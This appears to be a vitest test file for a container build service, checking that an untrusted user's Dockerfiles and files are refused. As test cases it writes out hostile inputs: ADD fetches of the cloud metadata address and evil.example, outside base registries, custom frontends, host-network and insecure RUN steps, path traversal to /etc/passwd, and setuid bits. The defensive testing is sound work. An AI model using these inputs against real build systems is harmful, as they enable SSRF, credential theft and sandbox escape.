import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../support/app.ts';
import { type BuildPayload, buildInput, sendBuild } from '../support/builds.ts';
import type { ApiClient } from '../support/client.ts';

/** As an operator does who lets strangers build: bases of one mirror, and of the platform's own registry. */
const BASE_HOSTS = 'mirror.example';

let slipway: TestApp;
let stranger: ApiClient;

beforeAll(async () => {
  slipway = await createTestApp({
    worker: false,
    env: { SLIPWAY_BASE_HOSTS: BASE_HOSTS, SLIPWAY_MAX_BODY_BYTES: '8000000' },
  });
  stranger = await slipway.user('stranger', { namespace: 'DEVELOPER', workspace: 'DEVELOPER' });
});
afterAll(async () => await slipway[Symbol.asyncDispose]());

async function ask(buildConfig: Record<string, unknown>): Promise<BuildPayload> {
  const input = await buildInput(stranger, { name: 'attack' });
  return await sendBuild(stranger, { ...input, buildConfig });
}

/** Nothing was queued, and the engine heard of nothing. */
async function expectNothingDone(): Promise<void> {
  const { imageBuilds, images } = await slipway.admin.run<Record<string, { totalCount: number }>>(
    '{ imageBuilds { totalCount } images(filter: { includeDeleted: true }) { totalCount } }',
  );
  expect([imageBuilds?.totalCount, images?.totalCount]).toEqual([0, 0]);
  expect(await slipway.database.query('select 1 from pgboss.job where name like $1', ['%build%'])).toEqual(
    [],
  );
  expect(slipway.engine.builds).toEqual([]);
}

const BASE = 'FROM mirror.example/python:3\n';

/** What is refused, and where: line and column count from 1. */
const DOCKERFILES: readonly (readonly [
  what: string,
  dockerfile: string,
  rule: string,
  place: readonly [number, number],
])[] = [
  // What the engine would fetch itself, from inside our network.
  [
    'ADD of the metadata address',
    `${BASE}ADD http://169.254.169.254/latest/meta-data /m`,
    'NOT_ALLOWED',
    [2, 5],
  ],
  ['ADD of git', `${BASE}ADD git://evil.example/x /x`, 'NOT_ALLOWED', [2, 5]],
  ['ADD of git over ssh', `${BASE}ADD git@evil.example:x.git /x`, 'NOT_ALLOWED', [2, 5]],
  ['ADD of git over https', `${BASE}ADD https://evil.example/x.git#main /x`, 'NOT_ALLOWED', [2, 5]],
  ['ADD of ftp', `${BASE}ADD ftp://evil.example/x /x`, 'NOT_ALLOWED', [2, 5]],
  [
    'ADD with a checksum, which is no promise of a host',
    `${BASE}ADD --checksum=sha256:${'0'.repeat(64)} http://evil.example/x /x`,
    'NOT_ALLOWED',
    [2, 88],
  ],
  [
    'ADD in capitals and on another line',
    `${BASE}aDd \\\n# why\n  HTTPS://EVIL.example/x /x`,
    'NOT_ALLOWED',
    [4, 3],
  ],
  ['ADD by ARG', `${BASE}ARG U=http://evil.example/x\nADD $U /x`, 'NOT_ALLOWED', [3, 5]],
  ['ADD by ENV', `${BASE}ENV U=http://evil.example/x\nADD \${U} /x`, 'NOT_ALLOWED', [3, 5]],
  ['ADD as a list', `${BASE}ADD ["http://evil.example/x", "/x"]`, 'NOT_ALLOWED', [2, 7]],
  ['ADD as a list with escapes', `${BASE}ADD ["http\\u003a//evil.example/x", "/x"]`, 'NOT_ALLOWED', [2, 1]],
  [
    'ADD behind a here-document',
    `${BASE}RUN <<E\nADD a b\nE\nADD http://evil.example/x /x`,
    'NOT_ALLOWED',
    [5, 5],
  ],
  [
    'ADD behind a here-document that only looks like one',
    `${BASE}RUN echo "<<E"\nADD http://evil.example/x /x\nE`,
    'NOT_ALLOWED',
    [3, 5],
  ],
  ['ADD in ONBUILD', `${BASE}ONBUILD ADD http://evil.example/x /x`, 'NOT_ALLOWED', [2, 13]],
  ['ADD with another escape', `# escape=\`\n${BASE}ADD \`\nhttp://evil.example/x /x`, 'NOT_ALLOWED', [4, 1]],
  ['ADD behind a byte order mark', `\ufeff${BASE}ADD http://evil.example/x /x`, 'NOT_ALLOWED', [2, 5]],
  [
    'ADD with a letter that looks like one of ours',
    `${BASE}АDD http://evil.example/x /x`,
    'UNKNOWN_INSTRUCTION',
    [2, 1],
  ],
  // Images of hosts that the operator does not name.
  ['a base of another host', 'FROM evil.example/x', 'REGISTRY_NOT_ALLOWED', [1, 6]],
  ['a base of Docker Hub', 'FROM python:3', 'REGISTRY_NOT_ALLOWED', [1, 6]],
  ['a base in lower case', 'from evil.example/x', 'REGISTRY_NOT_ALLOWED', [1, 6]],
  ['a base of a platform', 'FROM --platform=linux/arm64 evil.example/x', 'REGISTRY_NOT_ALLOWED', [1, 29]],
  ['a base by ARG', 'ARG H=evil.example\nFROM $H/x', 'REGISTRY_NOT_ALLOWED', [2, 6]],
  ['a base by parts of it', `ARG A=evil\nARG B=.example/x\nFROM \${A}\${B}`, 'REGISTRY_NOT_ALLOWED', [3, 6]],
  ['a base by the platform', `FROM \${TARGETARCH}.evil.example/x`, 'REGISTRY_NOT_ALLOWED', [1, 6]],
  ['a base on lines of its own', 'FROM \\\n  evil.example/x', 'REGISTRY_NOT_ALLOWED', [2, 3]],
  ['a base behind a byte order mark', '\ufeffFROM evil.example/x', 'REGISTRY_NOT_ALLOWED', [1, 6]],
  ['a base like ours, but with a port', 'FROM mirror.example:81/x', 'REGISTRY_NOT_ALLOWED', [1, 6]],
  ['a base like ours, but a letter is not', 'FROM mirrοr.example/x', 'AMBIGUOUS', [1, 6]],
  ['a base like ours, but longer', 'FROM mirror.example.evil.example/x', 'REGISTRY_NOT_ALLOWED', [1, 6]],
  ['a base with a user', 'FROM mirror.example@evil.example/x', 'BASE_INVALID', [1, 6]],
  ['a base at an address', 'FROM 169.254.169.254/x', 'REGISTRY_NOT_ALLOWED', [1, 6]],
  ['a base on our loopback', 'FROM [::1]:6379/x', 'REGISTRY_NOT_ALLOWED', [1, 6]],
  ['COPY from an image', `${BASE}COPY --from=evil.example/x /a /b`, 'REGISTRY_NOT_ALLOWED', [2, 13]],
  [
    'COPY from an image by ARG',
    `ARG H=evil.example\n${BASE}COPY --from=$H/x /a /b`,
    'BASE_UNRESOLVED',
    [3, 13],
  ],
  [
    'COPY from an image in ONBUILD',
    `${BASE}ONBUILD COPY --from=evil.example/x /a /b`,
    'REGISTRY_NOT_ALLOWED',
    [2, 21],
  ],
  [
    'a mount from an image',
    `${BASE}RUN --mount=type=bind,from=evil.example/x,target=/x ls`,
    'REGISTRY_NOT_ALLOWED',
    [2, 28],
  ],
  [
    'a mount from an image, in capitals',
    `${BASE}RUN --mount=type=bind,FROM=evil.example/x,target=/x ls`,
    'REGISTRY_NOT_ALLOWED',
    [2, 28],
  ],
  [
    'a mount from an image in quotes',
    `${BASE}RUN --mount="type=bind,from=evil.example/x",target=/x ls`,
    'REGISTRY_NOT_ALLOWED',
    [2, 29],
  ],
  ['a base by the id of anything in the engine', 'FROM 3f9a2b', 'REGISTRY_NOT_ALLOWED', [1, 6]],
  // Another program in the engine's place.
  ['another frontend', `# syntax=evil.example/x\n${BASE}`, 'NOT_ALLOWED', [1, 1]],
  [
    'another frontend, in capitals and blanks',
    `#   SYNTAX =  evil.example/x\n${BASE}`,
    'NOT_ALLOWED',
    [1, 1],
  ],
  ['another frontend behind a shebang', `#!/bin/sh\n# syntax=evil.example/x\n${BASE}`, 'NOT_ALLOWED', [2, 1]],
  [
    'another frontend behind a directive',
    `# check=skip=all\n# syntax=evil.example/x\n${BASE}`,
    'NOT_ALLOWED',
    [2, 1],
  ],
  ['another frontend as in other languages', `// syntax=evil.example/x\n${BASE}`, 'NOT_ALLOWED', [1, 1]],
  ['another frontend as JSON', `{"syntax":"evil.example/x"}\n${BASE}`, 'UNKNOWN_INSTRUCTION', [1, 1]],
  [
    'another frontend behind a byte order mark',
    `\ufeff# syntax=evil.example/x\n${BASE}`,
    'NOT_ALLOWED',
    [1, 1],
  ],
  // More rights for a step.
  ['the network of the machine', `${BASE}RUN --network=host ls`, 'NOT_ALLOWED', [2, 5]],
  ['the network of the machine in quotes', `${BASE}RUN --network="host" ls`, 'NOT_ALLOWED', [2, 5]],
  ['the network of the machine by ARG', `${BASE}ARG N=host\nRUN --network=$N ls`, 'NOT_ALLOWED', [3, 5]],
  ['a step without its sandbox', `${BASE}RUN --security=insecure ls`, 'NOT_ALLOWED', [2, 5]],
  ['a device', `${BASE}RUN --device=nvidia.com/gpu=all ls`, 'NOT_ALLOWED', [2, 5]],
  // What one engine reads in another way than we do.
  [
    'two lines to one reader',
    `${BASE}RUN true \\\n\u0085\nADD http://evil.example/x /x`,
    'AMBIGUOUS',
    [3, 1],
  ],
];

describe('a stranger’s Dockerfile is refused with its place before anything is queued', () => {
  it.each(DOCKERFILES)('%s', async (_, dockerfile, rule, [line, column]) => {
    const { build, userErrors } = await ask({ dockerfile });
    expect(build).toBeNull();
    const place = expect.objectContaining({ rule, line, column });
    expect(userErrors).toContainEqual(
      expect.objectContaining({ path: ['buildConfig', 'dockerfile'], details: place }),
    );
    await expectNothingDone();
  });
});

const file = (path: string, more: object = {}) => ({ path, content: '', ...more });

/** Each is refused at this path below `buildConfig`. */
const FILES: readonly (readonly [what: string, files: readonly object[], path: string])[] = [
  ['a path that leaves the context', [file('../x')], 'files.0.path'],
  ['one that leaves it further down', [file('a'), file('b/../../x')], 'files.1.path'],
  ['an absolute path', [file('/etc/passwd')], 'files.0.path'],
  ['a path of another system', [file('..\\x')], 'files.0.path'],
  ['a drive', [file('C:\\x')], 'files.0.path'],
  ['no path', [file('')], 'files.0.path'],
  ['the context itself', [file('.')], 'files.0.path'],
  ['a folder', [file('a/')], 'files.0.path'],
  ['a NUL in a path', [file('a\0.txt')], 'files.0.path'],
  ['a line end in a path', [file('a\n')], 'files.0.path'],
  ['half a character in a path', [file('\ud800')], 'files.0.path'],
  ['a path of 10,000 characters', [file('x'.repeat(10_000))], 'files.0.path'],
  ['a path of 1,000 folders', [file('a/'.repeat(1000).concat('b'))], 'files.0.path'],
  ['one path twice', [file('a'), file('a')], 'files.1.path'],
  ['a file that is a folder of another', [file('a'), file('a/b')], 'files.0.path'],
  ['bits that make a link or a device', [file('a', { mode: 0o120777 })], 'files.0.mode'],
  ['bits that make a program of root', [file('a', { mode: 0o4755 })], 'files.0.mode'],
  ['what is no base64', [file('a', { content: '%%%', encoding: 'BASE64' })], 'files.0.content'],
  ['more files than a context has', Array.from({ length: 20_000 }, (_, i) => file(`f${i}`)), 'files'],
];

describe('a stranger’s files are refused with their path', () => {
  it.each(FILES)('%s', async (_, files, path) => {
    const { build, userErrors } = await ask({ dockerfile: `${BASE}COPY . /x`, files });
    expect(build).toBeNull();
    expect(userErrors.map((error) => error.path.join('.'))).toContain(`buildConfig.${path}`);
    expect(JSON.stringify(userErrors).length).toBeLessThan(5000);
    await expectNothingDone();
  });

  it('a gigabyte of them is not even read', async () => {
    const chunk = Buffer.alloc(1 << 20, 'A');
    let sent = 0;
    const endless = new ReadableStream({
      pull(controller) {
        sent += chunk.length;
        if (sent > 2 ** 30) controller.close();
        else controller.enqueue(chunk);
      },
    });
    const answer = await fetch(`${slipway.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${stranger.token}` },
      body: endless,
      duplex: 'half',
    } as RequestInit).then(
      ({ status }) => status,
      () => 'cut off',
    );
    expect([413, 'cut off']).toContain(answer);
    expect(sent).toBeLessThan(100 * 2 ** 20);
    await expectNothingDone();
  });
});

/** More than text and numbers say: each is refused by its rule, or recorded and never given to the engine. */
it('what a request says of network and machine gets it no network and no machine', async () => {
  const input = await buildInput(stranger, { name: 'attack' });
  const { userErrors, warnings } = await sendBuild(stranger, {
    ...input,
    buildConfig: { dockerfile: BASE },
    network: {
      vpcId: 'host',
      securityGroupId: 'container:registry',
      switchId: 'host',
      extendedCidrs: ['0.0.0.0/0'],
    },
    resource: { ecsSpec: 'host' },
    validateOnly: true,
  });
  expect(userErrors).toEqual([]);
  expect(warnings).toContainEqual(expect.stringContaining('network is recorded'));
});
